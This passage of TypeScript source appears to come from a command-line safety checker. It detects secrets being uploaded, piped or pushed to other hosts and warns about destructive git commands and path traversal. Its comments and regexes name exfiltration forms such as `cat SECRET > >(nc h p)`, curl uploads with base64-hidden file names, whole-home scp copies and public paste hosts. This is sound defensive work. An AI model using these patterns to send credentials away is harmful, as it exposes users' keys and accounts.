    const eq = /^--(post-file|body-file|upload-file)=(.+)$/.exec(t)?.[2];
    // -T FILE, also inside a cluster of short options (curl -sT FILE).
    const uploadOpt = prev === '--upload-file' || prev === '--post-file' || prev === '--body-file' || (name === 'curl' && /^-[a-zA-Z]*T$/.test(prev)) || (/^(mutt|mail|mailx|neomutt|s-nail|swaks|sendemail)$/.test(name) && /^(-a|-A|--attach|--attach-type)$/.test(prev));
    const path = atFile ?? eq ?? (uploadOpt ? t : null);
    // -F "f=@$(echo fi8uc3No… | base64 -d)": a file whose name is decoded only when it runs, hidden from review.
    if (path && path.includes('$(…)') && w.subs.some((sub) => /\bbase64\s+(-[a-zA-Z]*[dD]|--decode)\b|\bxxd\s+-[a-z]*r|\bbase32\s+-d|\brev\b|\bopenssl\s+(enc\s+)?-?base64\s+-d/.test(sub))) return say('a file whose name is decoded only when it runs', 'as a file argument, hidden from review');
    const upload = (name === 'az' || name === 'gcloud') && /^(-f|--file|--source|--data)$/.test(prev);
    // scp HOST:SRC ./dst downloads: only a local source sent to a remote destination leaves.
    const ops = ['scp', 'rsync', 'sftp'].includes(name) ? args.filter((a, j) => !a.startsWith('-') && !noValue.has(args[j - 1] ?? '')) : [];
    const download = ops.length >= 2 && !/^(?:[\w.-]+@)?[\w.-]+:/.test(ops[ops.length - 1]) && !/^(sftp|rsync):\/\//.test(ops[ops.length - 1]);
    const candidates = path !== null && path !== undefined ? [path] : upload || (['scp', 'sftp', 'rsync', 'rclone', 'aws', 'gsutil', 'gcloud'].includes(name) && (remote || args.includes('cp')) && !t.startsWith('-') && !download && !/^(?:[\w.-]+@)?[\w.-]+:/.test(t)) ? [t] : [];
    for (const c of candidates) {
      if (c === '-') continue;
      const tt0 = target(inv, { ...w, text: c.replace(/^~(?=\/|$)/, walk.env.home) });
      // (for f in apps/*/.env*; … -F "f=@$f": the pattern's files, judged by the names it matches.)
      const tt = w.glob && !isSecret(walk, tt0.abs) ? target(inv, { ...w, glob: false, text: c.replace(/^~(?=\/|$)/, walk.env.home) }) : tt0;
      // The whole project, archived on the line, to an anonymous file drop or paste service.
      if (tt.abs !== null && walk.projectCopies.has(tt.abs) && args.some((a) => DROP_HOSTS.test(a))) return say(`${tt.abs} (the whole project)`, 'to a public file drop');
      // (A Terraform state copied into a bucket named for states is kept where it belongs.)
      if (tt.abs !== null && isStateFile(tt.abs) && toStateBucket(args)) continue;
      if (isSecret(walk, tt.abs)) return say(tt.abs!, `as a file argument`);
      // scp -r ~ host:, rsync -a ~/ host: — the whole home directory, keys and all.
      if (!remote || !/^[\w.-]*@?[\w.-]+:/.test(c)) if (holdsSecrets(walk, tt.abs) && ['scp', 'sftp', 'rsync', 'rclone', 'aws', 'gsutil'].includes(name)) return say(`${tt.abs} (the keys in it)`, 'as a file argument');
    }
    // A key in a header named for one (X-SecretKey, X-Api-Token) sent to the host of the service its variable is named for
    // ($PLAYFAB_SECRET_KEY to ….playfabapi.com): the credential used as meant.
    const host = /^[a-z]+:\/\/([^/:?#\s]+)/i.exec(args.find((a) => /^[a-z]+:\/\//i.test(a)) ?? '')?.[1] ?? null;
    const meantFor = host !== null && varNames(t).some((v) => { const word = v.split('_')[0].toLowerCase(); return word.length >= 3 && host.toLowerCase().includes(word); });
    const authHeader0 = (meantFor && /^[\w-]*(auth|token|key|secret|signature|password|session)[\w-]*\s*:/i.test(t)) || /^(authorization|proxy-authorization|x-api-key|api-key|private-token|x-auth-token|x-vault-token|x-consul-token|x-nomad-token|x-github-token|x-goog-api-key|anthropic-api-key|x-access-token)\s*:/i.test(t) || ['-u', '--user', '--oauth2-bearer', '--password', '--http-password'].includes(prev) || /^--(user|password|http-password)=/.test(t);
    // A whole credentials file or key (~/.git-credentials, ~/.ssh/id_rsa) in a header is not a token meant for it,
    // nor a service's token (gh auth token) sent to another host.
    const foreign = (sub: string) => host !== null && TOKEN_HOSTS.some(([cmd, hosts]) => cmd.test(sub) && !hosts.test(host));
    // A service's key in a variable ($ANTHROPIC_API_KEY, $GITHUB_TOKEN) sent in a header to a host not of that service.
    const foreignVar = host !== null && varNames(t).some((v) => VAR_HOSTS.some(([re, hosts]) => re.test(v) && !hosts.test(host)));
    // A password from the keychain or a password manager, as a login to a bare public IP address: no service of its own lives there.
    const bareIp = host !== null && /^\d{1,3}(\.\d{1,3}){3}$/.test(host) && !/^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(host);
    const authHeader = authHeader0 && !foreignVar && !w.subs.some((sub) => /^\//.test(subProducesSecret(walk, inv, sub, 1) ?? '') || foreign(sub) || (bareIp && /^\s*(security\s+find-(generic|internet)-password|op\s+read|pass\s+show|bw\s+get|secret-tool\s+lookup)\b/.test(sub)));
    // A credential in the header meant for it (-H "Authorization: Bearer $(gh auth token)") is the credential used, not sent away.
    if (!authHeader) {
      for (const sub of w.subs) {
        const found = subProducesSecret(walk, inv, sub, 1);
        if (found) return say(found, 'inside a command substitution');
      }
      // Any credential-named variable in a request to a bare IP address: no service of its own lives there.
      // So is a service's key ($WANDB_API_KEY) in a request to a host not of that service.
      const v = varNames(t).find((n) => KNOWN_SECRET_VAR.test(n) || (SECRET_VAR.test(n) && host !== null && /^\d{1,3}(\.\d{1,3}){3}$/.test(host) && !/^(127\.|10\.|192\.168\.)/.test(host)) || (host !== null && VAR_HOSTS.some(([re, hosts]) => re.test(n) && !hosts.test(host))));
      if (v && !(host !== null && /^(localhost|127\.\d+\.\d+\.\d+|\[::1\])$/.test(host))) return say(`$${v}`, 'in its arguments, not as the credential header it is meant for');
    }
  }
}

/** Variables holding a service's key, and the hosts that key is meant for. */
const VAR_HOSTS: [RegExp, RegExp][] = [
  [/^(ANTHROPIC_API_KEY|CLAUDE_API_KEY)$/, /(^|\.)anthropic\.com$|^localhost$/],
  [/^OPENAI_API_KEY$/, /openai|azure|^localhost$/],
  // (GitHub Enterprise hosts carry the name; registries and GitLab are often self-hosted, so their tokens are not tied to a host here.)
  [/^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT)$/, /github|ghcr\.io$|^localhost$/],
  // A self-hosted GitLab is named for it (gitlab.acme.dev, git.acme.io).
  [/^(GITLAB_TOKEN|GL_TOKEN|GITLAB_PRIVATE_TOKEN|CI_JOB_TOKEN)$/, /gitlab|^(git|scm|code)\.|^localhost$/],
  [/^(HF_TOKEN|HUGGING_FACE_HUB_TOKEN)$/, /(^|\.)huggingface\.co$/],
  [/^SLACK_(BOT_)?TOKEN$/, /(^|\.)slack\.com$/],
  [/^(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)$/, /(^|\.)amazonaws\.com$/],
  ...ML_VAR_HOSTS,
  ...PLATFORM_VAR_HOSTS,
  ...GAME_VAR_HOSTS,
];

/** Anonymous file drops, paste bins and request catchers: whatever reaches them is public. */
const DROP_HOSTS = /:\/\/([\w.-]+\.)?(transfer\.sh|0x0\.st|file\.io|termbin\.com|pastebin\.com|hastebin\.com|ix\.io|sprunge\.us|catbox\.moe|gofile\.io|tmpfiles\.org|bashupload\.com|oshi\.at|temp\.sh|webhook\.site|requestbin\.\w+|pipedream\.net|anonfiles\.com|filebin\.net|paste\.\w+|dpaste\.\w+)(\/|$)/i;

/** Commands printing a service's token, and the hosts that token is meant for. */
const TOKEN_HOSTS: [RegExp, RegExp][] = [
  [/\bgh\s+auth\s+token\b/, /(^|\.)(github\.com|githubusercontent\.com|ghcr\.io|github\.io)$|^localhost$/],
  [/\bglab\s+auth\s+token\b/, /(^|\.)gitlab\.|^localhost$/],
  [/\bgcloud\s+auth\s+print-(access|identity)-token\b/, /(^|\.)(googleapis\.com|google\.com|gcr\.io|pkg\.dev|run\.app|cloudfunctions\.net)$|^localhost$/],
  [/\baz\s+account\s+get-access-token\b/, /(^|\.)(azure\.com|windows\.net|microsoft\.com|azurecr\.io|azure\.net)$|^localhost$/],
  [/\baws\s+ecr\s+get-login-password\b/, /(^|\.)amazonaws\.com$|^localhost$/],
];

/** Options whose value is a key or credential the program authenticates with (used as meant, not sent away). */
const CREDENTIAL_OPTS = /^(-i|-k|--identity|--identity-file|--key|--key-file|--keyfile|--private-key|--cert|--cacert|--ssh-key|--credentials|--credentials-file|--kubeconfig|--config|-F|--profile|--token-file|--password-file|--secret-file|--auth-file|--with-token)$/;

/**
 * Tools that upload what they are given to somewhere else even without a URL: gists, releases,
 * issue bodies, file-transfer tools, paste services, copies into pods and containers.
 */
function uploads(argv: string[]): boolean {
  const [name, a1, a2] = argv;
  if ((name === 'gh' || name === 'glab') && (/^(gist|snippet)$/.test(a1 ?? '') || (a1 === 'release' && /^(upload|create)$/.test(a2 ?? '')) || (/^(issue|pr|mr)$/.test(a1 ?? '') && /^(create|comment|edit)$/.test(a2 ?? '')) || a1 === 'api')) return true;
  if (/^(wormhole|croc|pastebinit|pastebin|wgetpaste|fpaste|haste|gist|ffsend|transfer|onionshare|onionshare-cli|magic-wormhole|ncftpput|wput|s3cmd|b2|azcopy|termbin|ix|sprunge|0x0)$/.test(name ?? '')) return true;
  // Error trackers and notifiers send the text they are given to their service (sentry-cli send-event -m TEXT, apprise, ntfy).
  if ((name === 'sentry-cli' && /^send-(event|envelope)$/.test(a1 ?? '')) || /^(apprise|ntfy|telegram-send|slack-cli|discord-cli|pushover-cli|gotify)$/.test(name ?? '')) return true;
  // gh secret set NAME --repo OTHER (or --org): the value goes to a repository or organisation named on the line, whose
  // workflows (and whoever writes them) can read it; without --repo it is the project's own repository, set up as meant.
  if (name === 'gh' && a1 === 'secret' && a2 === 'set' && argv.some((a) => /^(-R|--repo|-o|--org)(=|$)/.test(a))) return true;
  // gh variable set (and glab's): a plain variable, shown to everyone who can read the repository.
  if ((name === 'gh' || name === 'glab') && a1 === 'variable' && /^(set|update|create)$/.test(a2 ?? '')) return true;
  if (name === 'tailscale' && a1 === 'file') return true;
  // Game stores' uploaders: butler push DIR (itch.io), what they are given is published.
  if (name === 'butler' && a1 === 'push') return true;
  if (name === 'mc' && /^(cp|mirror|put)$/.test(a1 ?? '')) return true;
  if ((name === 'kubectl' || name === 'oc' || name === 'docker' || name === 'podman') && argv.includes('cp') && argv.some((a) => /^[\w.-]+(\/[\w.-]+)?:/.test(a))) return true;
  return (name === 'git' && a1 === 'send-email') || mlUploads(argv);
}

/** A network destination among the words: a URL (not file://), user@host:path, an --url/--host/--server option. */
function networkDestination(argv: string[]): boolean {
  return argv.some((a, k) => (/^[a-z][a-z0-9+.-]*:\/\/[^/\s]/i.test(a) && !/^file:/i.test(a)) || /^[\w.-]+@[\w.-]+:/.test(a) || /^--(url|endpoint|host|server|webhook)(=|$)/.test(a) || (k > 0 && /^--(url|endpoint|webhook)$/.test(argv[k - 1])) ||
    // A lake or workspace path (dbfs:/FileStore/x, hdfs:/…, abfss:…), a broker on another host (kafka-console-producer --bootstrap-server, kcat -b, rpk --brokers).
    (k > 0 && /^(dbfs|hdfs|abfss?|wasbs?|adl|s3a?|gs|oss|cos):\/?[^/\s]/i.test(a)) ||
    (k > 0 && /^(--bootstrap-server|--broker-list|--brokers|-b|-X\s*bootstrap\.servers)$/.test(argv[k - 1]) && /^(kcat|kafkacat|rpk|kafka-[\w-]+(\.sh)?|confluent|kaf|kafkactl)$/.test(argv[0] ?? '') && !/^(localhost|127\.|\[?::1)/.test(a)));
}

/**
 * Secret bytes reaching any program that sends what it gets elsewhere, beyond the known senders:
 * an uploader (gh gist create, croc, wormhole, kubectl cp…), any command given a URL or a
 * user@host: destination, or interpreter code that talks to the network. The secret comes through
 * the pipe, an input redirection, a file operand, an option's file value (--body-file, name=@file)
 * or a substitution; a key given to the option meant for it (-i, --key-file) is used, not sent.
 */
function checkSecretReachesNetwork(walk: Walk, inv: Invocation): void {
  const name = inv.argv[0] ?? '';
  const lang = langOf(name);
  const code = lang ? inlineCode(lang, inv.argv).code : null;
  const viaCode = code !== null && talksToNetwork(code);
  const sends = viaCode || uploads(inv.argv) || (!lang && name !== 'ssh-copy-id' && networkDestination(inv.argv));
  const say = (what: string, how: string) =>
    block(walk, 'dangerous', `${name} sends ${what} elsewhere (${how}): secrets must not leave this machine`, 'never send credentials anywhere; if a service needs one, the user configures it');
  if (!sends && !inv.argv.slice(1, 3).some((a) => /^(login|auth)$/.test(a))) return;
  // A credential given on stdin to log in with it (docker login --password-stdin, gh auth login --with-token) is used, not sent away;
  // a whole store of them (~/.docker/config.json, ~/.aws/credentials, a private key) is no password.
  // (Given by a redirection or by cat FILE | …: helm registry login, podman login too.)
  const fed = [...inv.redirects.filter((r) => r.op === '<').map((r) => r.target), ...inv.upstream.filter((u) => /^(cat|tac|head|tail)$/.test(u.argv[0])).flatMap((u) => operands(u.words))];
  const store = fed.find((w) => inv.cwd !== null && /\/(\.docker\/config\.json|\.aws\/(credentials|config)|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube\/config|\.ssh\/[^/]+|\.gnupg\/.+)$/.test(resolveFrom(inv.cwd, w.text.replace(/^~(?=\/|$)/, walk.env.home))) && !w.text.endsWith('.pub'));
  if (store && inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin)$/.test(a))) return say(resolveFrom(inv.cwd!, store.text.replace(/^~(?=\/|$)/, walk.env.home)), 'as the password of a login to another service');
  if (!sends || inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin|password-file)$/.test(a)) || /^(login|auth)$/.test(inv.argv[1] ?? '')) return;
  for (const r of inv.redirects) {
    if ((r.op === '<' || r.op === '<>') && !r.target.dynamic && inv.cwd !== null && isSecret(walk, resolveFrom(inv.cwd, r.target.text))) return say(resolveFrom(inv.cwd, r.target.text), 'input redirection');
  }
  for (const u of withInner(inv.upstream)) {
    const found = producesSecret(walk, u);
    if (found) return say(found, `piped from ${u.argv[0]}`);
  }
  const fedSecret = stdinSecret(walk, inv);
  if (fedSecret) return say(fedSecret, 'in the text given on its input');
  // python3 - SECRET <<EOF … open(sys.argv[1]) … urlopen: the code's own arguments are what it reads.
  if (viaCode && /\b(sys\.argv|process\.argv|ARGV|commandArgs|@ARGV|\$argv)\b/.test(code ?? '')) {
    const arg = inv.words.slice(1).find((w) => w.text !== code && !w.text.startsWith('-') && isSecret(walk, target(inv, { ...w, text: w.text.replace(/^~(?=\/|$)/, walk.env.home) }).abs));
    if (arg) return say(target(inv, arg).abs!, 'as an argument its code reads');
  }
  if (viaCode) return;
  for (let k = 1; k < inv.words.length; k++) {
    const w = inv.words[k];
    // (pastebinit -i FILE, wgetpaste -i: for a paste client -i is the text to paste, not a key.)
    if ((CREDENTIAL_OPTS.test(inv.words[k - 1].text) && !/paste|^(termbin|ix|sprunge|0x0)$/.test(name)) || (w.text.startsWith('-') && !w.text.includes('='))) continue;
    // (playwright codegen --save-storage=F, --output=F: where the tool writes what it gets, not what it sends; a cookie jar given
    // to yt-dlp --cookies, wget --load-cookies, curl -b: its cookies go only to the sites they were set by.)
    if (/^--(save|output|out|write|cookies|load-cookies|cookie-jar)[\w-]*=/.test(w.text) || /^--(save|output|out|write|cookies|load-cookies|cookie-jar)[\w-]*$/.test(inv.words[k - 1].text) || (name === 'curl' && /^(-b|-c|--cookie)$/.test(inv.words[k - 1].text))) continue;
    // -d @f, name=@f, and httpie's field@path (a form file): the file named.
    const file = /(?:^|=)@?([~/.][^\s,;]*)$/.exec(w.text)?.[1] ?? /^[\w-]+@([\w.~/-][^\s,;@:]*)$/.exec(w.text)?.[1] ?? w.text;
    const t = target(inv, { ...w, text: file.replace(/^~(?=\/|$)/, walk.env.home) });
    if (isSecret(walk, t.abs) || (t.abs !== null && holdsHomeSecret(t.abs, walk.env))) return say(t.abs!, 'as a file argument');
    for (const sub of w.subs) {
      const found = subProducesSecret(walk, inv, sub, 1);
      if (found) return say(found, 'inside a command substitution');
    }
  }
}

/**
 * `tee >(curl -d @- URL) < SECRET`, `cat SECRET > >(nc h p)`: an output process substitution reads what
 * the command writes; when that is a secret and the substitution sends elsewhere, the secret leaves.
 */
function checkOutputSubstitutions(walk: Walk, inv: Invocation): void {
  const outs = [...inv.words.slice(1), ...inv.redirects.filter((r) => r.op !== '<').map((r) => r.target)].filter((w) => w.text.startsWith('/dev/fd/') && w.subs.length > 0);
  if (outs.length === 0) return;
  // curl … | tee >(sh): a shell in the substitution reads what tee reads, the download.
  const fetched = withInner(inv.upstream).map((u) => fetches(walk, u)).find((x) => x !== null);
  if (fetched) {
    for (const w of outs) {
      const c = parseShell(w.subs[0], parseEnv(walk, inv.cwd)).commands[0];
      const argv = c ? unwrap(c.words, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd }).words.map((x) => x.text) : [];
      if (argv.length > 0 && readsScriptFromStdin([base(argv[0]), ...argv.slice(1)])) {
        block(walk, 'dangerous', `a download (${fetched}) is passed by ${inv.argv[0]} to ${base(argv[0])} through a process substitution: unreviewed code runs`, 'download to a file, read it, then run it');
        return;
      }
    }
  }
  const secret =
    producesSecret(walk, inv) ??
    inv.redirects.map((r) => (r.op === '<' && !r.target.dynamic && inv.cwd !== null ? resolveFrom(inv.cwd, r.target.text) : null)).find((abs) => abs !== null && isSecret(walk, abs)) ??
    withInner(inv.upstream).map((u) => producesSecret(walk, u)).find((x) => x !== null) ??
    null;
  if (!secret) return;
  for (const w of outs) {
    for (const c of parseShell(w.subs[0], parseEnv(walk, inv.cwd)).commands) {
      const argv = unwrap(c.words, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd }).words.map((x) => x.text);
      if (argv.length > 0 && (SENDERS.has(base(argv[0])) || uploads([base(argv[0]), ...argv.slice(1)]) || networkDestination(argv.slice(1)))) {
        block(walk, 'dangerous', `${inv.argv[0]} passes ${secret} to ${base(argv[0])} through a process substitution, which sends it elsewhere: secrets must not leave this machine`);
        return;
      }
    }
  }
}

/** Checks over the whole line: a secret file added to git and pushed. */
/**
 * What a git command throws away of the uncommitted work of its work tree, or null: `all` for every change (reset --hard,
 * checkout -f, switch -f|--discard-changes, checkout/restore of `.` or `:/`), else the changes of the PATHS named
 * (checkout [TREE] -- PATHS, restore PATHS). restore --staged (-S) alone only unstages: nothing is lost. The one place
 * this is decided: the warning (with a backup) and the clean rule below read it.
 */
function workTreeDiscard(sub: string | undefined, rest: string[]): { all: boolean; paths: string[] } | null {
  if (sub === 'reset') return rest.includes('--hard') ? { all: true, paths: [] } : null;
  if (sub !== 'checkout' && sub !== 'switch' && sub !== 'restore') return null;
  const dash = rest.indexOf('--');
  const flags = (dash >= 0 ? rest.slice(0, dash) : rest).filter((a) => a.startsWith('-'));
  // git restore takes every operand as a path; checkout only what follows `--`, or `.` and `:/` (else it names a branch).
  const paths =
    dash >= 0 ? rest.slice(dash + 1) : sub === 'restore' ? rest.filter((a, k) => !a.startsWith('-') && !/^(-s|--source)$/.test(rest[k - 1] ?? '')) : rest.filter((a) => a === '.' || a === ':/');
  const flag = (long: string, short: string) => flags.some((a) => a === long || (!a.startsWith('--') && a.slice(1).includes(short)));
  const force = sub === 'switch' ? flags.some((a) => a === '--discard-changes' || a === '--force' || a === '-f') : sub === 'checkout' && flags.some((a) => a === '--force' || a === '-f');
  const discards = sub === 'restore' ? paths.length > 0 && (!flag('--staged', 'S') || flag('--worktree', 'W')) : paths.length > 0 || force;
  if (!discards) return null;
  return { all: force || paths.some((a) => a === '.' || a === './' || a === ':/' || a === ':/*'), paths };
}

/** The subcommand of a git argv and its arguments (past -C DIR, -c KEY=V and the other global options). */
function gitSub(argv: string[]): { sub: string | undefined; rest: string[] } {
  const k = argv.findIndex((a, j) => j > 0 && !a.startsWith('-') && !/^-[cC]$|^--(git-dir|work-tree|namespace)$/.test(argv[j - 1] ?? ''));
  return { sub: k > 0 ? argv[k] : undefined, rest: k > 0 ? argv.slice(k + 1) : [] };
}

/** checkout/switch/restore that discard uncommitted changes: a warning and a backup, as for reset --hard. */
function warnWorkTreeDiscard(walk: Walk, sub: string, rest: string[]): void {
  const d = workTreeDiscard(sub, rest);
  if (!d) return;
  const what = d.paths.length > 0 && !d.all ? `of ${d.paths.slice(0, 3).join(' ')}${d.paths.length > 3 ? ' …' : ''}` : '';
  warn(walk, 'suspicious', `git ${sub} ${rest.join(' ')} discards uncommitted changes${what ? ` ${what}` : ''}`, 'git stash first');
  critical(walk, `git ${sub}`);
}

function checkLine(walk: Walk): void {
  const gits = walk.out.filter((i) => i.argv[0] === 'git');
  const made = [...walk.secretFiles];
  // tar czf ~/Dropbox/keys.tgz ~/.ssh: a file the line filled with secrets, made inside a synced folder.
  const syncedSecret = made.find((f) => f !== CLIPBOARD && syncedFolder(f, walk.env) !== null);
  if (syncedSecret) block(walk, 'dangerous', `the line fills ${syncedSecret} with secrets, in ${syncedFolder(syncedSecret, walk.env)}, which a sync service uploads or shares: they leave this machine`, 'keep keys and tokens out of synced folders');
  const added = gits.find((i) => {
    const addAll = i.argv.includes('add') && i.argv.some((a) => a === '-A' || a === '--all' || a === '-u');
    const commitAll = i.argv.includes('commit') && i.argv.some((a) => /^-[a-zA-Z]*a[a-zA-Z]*$/.test(a) || a === '--all');
    if ((addAll || commitAll) && i.cwd !== null && made.some((f) => isUnder(f, i.cwd!))) return true;
    return i.argv.includes('add') && operands(i.words).some((w) => {
      const t = target(i, w);
      // A secret, a file this line copied a secret into (cp ~/.ssh/id_rsa x && git add x), or a directory holding one (git add .).
      return isSecret(walk, t.abs) || (t.abs !== null && made.some((f) => isUnder(f, t.abs!)));
    });
  });
  // git commit/tag/notes -m "$(cat ~/.ssh/id_rsa)", docker build --build-arg K="$(cat key)", a secret copied into the
  // project: then pushed or published (git push, docker push, npm publish, twine upload…), the secret leaves with it.
  // vercel/netlify/firebase/wrangler… deploy (also through npx): the project's files go to a public host.
  const deploys = (i: Invocation) => i.argv.slice(0, 3).some((a) => /^(vercel|netlify|netlify-cli|firebase|surge|wrangler|flyctl|fly|amplify|railway|gh-pages|now)$/.test(a)) && (i.argv.some((a) => /^(deploy|publish|up|--prod)$/.test(a)) || i.argv.slice(0, 3).some((a) => /^(surge|gh-pages)$/.test(a)));
  const publishes = walk.out.find((i) => deploys(i) || (i.argv[0] === 'git' && i.argv.includes('push')) || (/^(docker|podman|buildah)$/.test(i.argv[0]) && i.argv.includes('push')) || (/^(npm|pnpm|yarn)$/.test(i.argv[0]) && i.argv.includes('publish')) || (i.argv[0] === 'twine' && i.argv.includes('upload')) || (/^(gem|cargo|poetry|flit|hatch)$/.test(i.argv[0]) && /^(push|publish)$/.test(i.argv[1] ?? '')));
  if (publishes) {
    const carrier = walk.out.find((i) => i !== publishes && /^(git|docker|podman|buildah)$/.test(i.argv[0]) && i.words.some((w) => w.subs.some((sub) => subProducesSecret(walk, i, sub, 1) !== null)));
    const inProject = publishes.argv[0] !== 'git' && publishes.cwd !== null && [...walk.secretFiles].some((f) => isUnder(f, publishes.cwd!));
    if (carrier || inProject) {
      block(walk, 'dangerous', `a secret goes into ${carrier ? `what ${carrier.argv.slice(0, 2).join(' ')} records` : 'the package'} and ${publishes.argv.slice(0, 2).join(' ')} sends it away`, 'keep secrets out of commits, images and packages');
      return;
    }
  }
  if (added && gits.some((i) => i.argv.includes('push'))) {
    block(walk, 'dangerous', 'the line adds a secret file to git and pushes it: the secret ends up on the remote, in history', 'keep secrets out of git (.gitignore); remove the file from the index with git rm --cached');
  }
}

/** Paths that climb out of the project with `..`. */
function checkTraversal(walk: Walk, inv: Invocation): void {
  if (inv.cwd === null) return;
  const env = walk.env;
  const name = inv.argv[0] ?? '';
  const allWrite = new Set(['rm', 'mv', 'tee', 'touch', 'mkdir', 'truncate', 'shred', 'chmod', 'chown', 'unlink', 'rmdir']);
  const lastWrite = new Set(['cp', 'ln', 'install', 'rsync', 'scp']);
  const ops = operands(inv.words);
  const isWrite = (w: Word) =>
    allWrite.has(name) || (lastWrite.has(name) && w === ops[ops.length - 1] && ops.length > 1) || (name === 'dd' && w.text.startsWith('of=')) || (name === 'sed' && inv.argv.some((a) => /^-[a-zA-Z]*i/.test(a)));
  const words = [
    ...inv.words.slice(1).map((w) => ({ w, write: isWrite(w) })),
    ...inv.redirects.map((r) => ({ w: r.target, write: r.op !== '<' && r.op !== '<<<' && r.op !== '<<' && r.op !== '<<-' })),
  ];
  for (const { w, write } of words) {
    const raw = w.text.replace(/^(of|if)=/, '');
    if (!/(^|\/)\.\.(\/|$)/.test(raw) || w.dynamic) continue;
    const abs = resolveFrom(inv.cwd, raw);
    if (isUnder(abs, env.project)) continue;
    if (isSecretPath(abs, env)) block(walk, 'traversal', `path traversal: ${raw} climbs out of the project to the secret file ${abs}`);
    else if (isSystemPath(abs, env.home)) {
      if (write) block(walk, 'traversal', `path traversal: ${raw} climbs out of the project to write ${abs}`);
      else warn(walk, 'traversal', `path traversal: ${raw} climbs out of the project to ${abs}`);
    } else if (write) warn(walk, 'traversal', `${inv.argv[0]} writes outside the project through ${raw} (${abs})`);
  }
}

/** The project's current branch read from .git/HEAD (no git process on the hot path). */
export function readCurrentBranch(project: string, fsRead: (p: string) => string): string | null {
  let dir = project;
  for (let k = 0; k < 30; k++) {
    try {
      let head = fsRead(path.join(dir, '.git', 'HEAD'));
      const m = /^ref: refs\/heads\/(.+)$/m.exec(head);
      return m ? m[1].trim() : null;
    } catch {
      try {
        // A worktree or submodule: .git is a file naming the git dir.
        const gitFile = fsRead(path.join(dir, '.git'));
        const m = /^gitdir: (.+)$/m.exec(gitFile);
        if (m) {
          const head = fsRead(path.join(path.resolve(dir, m[1].trim()), 'HEAD'));
          const b = /^ref: refs\/heads\/(.+)$/m.exec(head);
          return b ? b[1].trim() : null;
        }
      } catch {
        /* keep climbing */
      }
    }
    const up = path.dirname(dir);
    if (up === dir) return null;
    dir = up;
  }
  return null;
}

/** Applies the security switches: a check that is off reports nothing; a dangerous command with blocking off is still warned about. */
export function applySwitches(findings: Finding[], sec: Settings['security']): Finding[] {
  const out: Finding[] = [];
  for (const f of findings) {
    if (f.check === 'dangerous' && !sec.dangerous_commands_blocked) {
      if (sec.suspicious_commands_warned) out.push({ ...f, level: 'warn' });
    } else if (f.check === 'suspicious' && !sec.suspicious_commands_warned) continue;
    else if (f.check === 'traversal' && !sec.path_traversal_protection) continue;
    else if (f.check === 'system' && !sec.system_files_protection) continue;
    else out.push(f);
  }
  return out;
}

